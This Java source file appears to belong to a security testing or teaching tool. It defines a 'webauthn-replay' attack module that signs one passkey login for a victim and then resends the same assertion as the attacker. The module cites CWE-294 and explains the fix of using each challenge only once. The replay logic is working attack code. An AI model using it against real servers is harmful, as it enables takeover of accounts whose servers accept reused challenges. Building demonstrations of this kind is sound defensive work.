package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.credential.SoftwareAuthenticator;
import dev.gatehouse.desktop.credential.WebauthnCredential;
import dev.gatehouse.desktop.exchange.Draft;
import dev.gatehouse.desktop.exchange.Hop;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

/** Sends an assertion once more. */
@AutoService(Attack.class)
public final class WebauthnReplay implements Attack {
  private static final String PASSKEYS = "/me/passkeys";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "webauthn-replay",
        "An assertion of a passkey sent again",
        AttackGroup.SECOND_FACTORS,
        "The attacker finds what Alice's passkey signed for an earlier login, and sends it again.",
        "One login of Alice, for example from a log of bodies. Her passkey is shared by all her devices and does not count.",
        "The signature is genuine, and the server does not remember which of its challenges were used.",
        "webauthn-challenge-reuse",
        List.of("WebAuthn L3 §13.4.3", "WebAuthn L3 §7.2", "CWE-294"),
        "Make a new challenge for each login, keep it with the server, and take it once.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    SoftwareAuthenticator passkey = register(target);
    Hop asked = StolenSession.ask(target, AttackStep.VICTIM, "Alice asks for a challenge.");
    byte[] assertion =
        passkey.sign(
            SoftwareAuthenticator.asked(
                WebauthnCredential.options(asked), StolenSession.origin(target), 0));
    StolenSession.signIn(target, AttackStep.VICTIM, "Alice signs in with her passkey.", assertion);
    target.makes(
        "Find what she sent. Her private key is not in it.",
        "the assertion",
        new String(assertion, StandardCharsets.UTF_8));
    Hop login =
        StolenSession.signIn(
            target, AttackStep.ATTACKER, "Send it again, just as it was.", assertion);
    return StolenSession.use(target, login);
  }

  /** A new passkey that never counts, as those are that a vendor copies to all devices. */
  private static SoftwareAuthenticator register(Target target) throws InterruptedException {
    String password = target.loot().secret(Loot.VICTIM, "password");
    String basic =
        "Basic "
            + Base64.getEncoder()
                .encodeToString((Loot.VICTIM + ":" + password).getBytes(StandardCharsets.UTF_8));
    Draft asking = target.with("POST", PASSKEYS + "/options", "application/json", "");
    Hop asked =
        target.send(
            AttackStep.VICTIM, "Alice wants a passkey.", asking.withHeader("Authorization", basic));
    SoftwareAuthenticator.Made made =
        SoftwareAuthenticator.make(WebauthnCredential.options(asked), StolenSession.origin(target));
    target.send(
        AttackStep.VICTIM,
        "Her phone makes one, and she registers it.",
        target
            .with("POST", PASSKEYS, "application/json", made.registered())
            .withHeader("Authorization", basic));
    return made.authenticator();
  }
}
